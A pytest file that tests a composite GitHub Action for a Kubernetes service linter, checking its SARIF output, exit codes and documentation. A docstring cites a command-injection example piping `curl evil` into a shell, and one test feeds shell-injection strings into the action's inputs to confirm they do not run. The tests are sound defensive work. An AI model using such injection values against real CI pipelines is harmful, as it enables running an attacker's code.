"""action.yml, the composite GitHub Action: its steps' scripts run here as a runner would run them (bash, the
inputs in the environment), and docs/ci.md uses only inputs the action has."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from conftest import NODE_PORT_OUT_OF_RANGE, REPO

ACTION: dict[str, Any] = yaml.safe_load((REPO / "action.yml").read_text())
_EXPRESSION = re.compile(r"\$\{\{\s*(inputs|steps\.lint\.outputs)\.([\w-]+)\s*\}\}")
SERVICE = NODE_PORT_OUT_OF_RANGE


def _step(name: str) -> dict[str, Any]:
    (step,) = [s for s in ACTION["runs"]["steps"] if s.get("name") == name]
    found: dict[str, Any] = step
    return found


def _inputs(**given: str) -> dict[str, str]:
    values = {name: str(spec.get("default", "")) for name, spec in ACTION["inputs"].items()}
    values.update({key.replace("_", "-"): value for key, value in given.items()})
    return values


def _run_step(name: str, cwd: Path, values: dict[str, str]) -> tuple[int, dict[str, str]]:
    """Run a step's script with bash, its `env:` evaluated from `values`; return the exit code and its outputs."""
    step = _step(name)
    svclint = shutil.which("svclint", path=str(Path(sys.executable).parent))
    assert svclint is not None, "svclint is installed next to the test's Python"
    outputs = cwd / "github-output"
    outputs.write_text("")
    env = {"PATH": f"{Path(svclint).parent}:/usr/bin:/bin", "HOME": str(cwd), "GITHUB_OUTPUT": str(outputs)}
    for key, value in step.get("env", {}).items():
        env[key] = _EXPRESSION.sub(lambda m: values[m.group(2)], str(value))
    proc = subprocess.run(["bash", "-e", "-c", step["run"]], cwd=cwd, env=env, capture_output=True, text=True)
    pairs = (line.split("=", 1) for line in outputs.read_text().splitlines())
    return proc.returncode, dict(pairs)


def test_scripts_take_inputs_from_the_environment_only() -> None:
    """An input pasted into a script could inject commands (`paths: "x; curl evil | sh"`)."""
    assert ACTION["runs"]["using"] == "composite"
    for step in ACTION["runs"]["steps"]:
        if "run" in step:
            assert step["shell"] == "bash", step["name"]
            assert "${{" not in step["run"], f"{step['name']}: pass inputs through env:"


@pytest.fixture
def repository(tmp_path: Path) -> Path:
    (tmp_path / "k8s").mkdir()
    (tmp_path / "k8s" / "web.yaml").write_text(SERVICE)
    return tmp_path


def test_lint_step_writes_sarif_and_the_job_fails_on_findings(repository: Path) -> None:
    values = _inputs(paths="k8s/", args="--disable node-port-for-external-access")
    status, outputs = _run_step("Lint", repository, values)
    assert status == 0 and outputs == {"exit-code": "1"}  # the step itself passes, so that the upload runs
    log = json.loads((repository / "svclint.sarif").read_text())
    results = log["runs"][0]["results"]
    assert [r["ruleId"] for r in results] == ["SVC101"]  # SVC308 was disabled through `args`
    assert results[0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "k8s/web.yaml"
    failed, _ = _run_step("Fail on findings", repository, {**values, "exit-code": outputs["exit-code"]})
    assert failed == 1


def test_lint_step_is_clean_on_a_clean_tree(repository: Path) -> None:
    (repository / "k8s" / "web.yaml").write_text(SERVICE.replace("29999", "30999"))
    values = _inputs(paths="k8s/", args="--fail-on error", sarif_file="reports/out.sarif")
    (repository / "reports").mkdir()
    status, outputs = _run_step("Lint", repository, values)
    assert status == 0 and outputs == {"exit-code": "0"}
    assert json.loads((repository / "reports" / "out.sarif").read_text())["version"] == "2.1.0"


def test_inputs_cannot_inject_commands(repository: Path) -> None:
    values = _inputs(paths="k8s/ ; touch injected $(touch injected2)", args="`touch injected3`")
    status, outputs = _run_step("Lint", repository, values)
    assert status == 0 and outputs == {"exit-code": "2"}  # svclint refused the odd paths and options
    assert not list(repository.glob("injected*"))


def test_ci_docs_use_the_actions_inputs() -> None:
    page = (REPO / "docs" / "ci.md").read_text()
    blocks = re.findall(r"```yaml\n(.*?)```", page, re.S)
    uses = []
    for block in blocks:
        for step in _steps(yaml.safe_load(block)):
            if str(step.get("uses", "")).startswith("svclint/svclint@"):
                uses.append(step)
                assert set(step.get("with", {})) <= set(ACTION["inputs"]), step
    assert uses, "docs/ci.md shows the action"


def _steps(document: Any) -> list[dict[str, Any]]:
    found = []
    if isinstance(document, dict):
        if "uses" in document:
            found.append(document)
        for value in document.values():
            found += _steps(value)
    elif isinstance(document, list):
        for value in document:
            found += _steps(value)
    return found
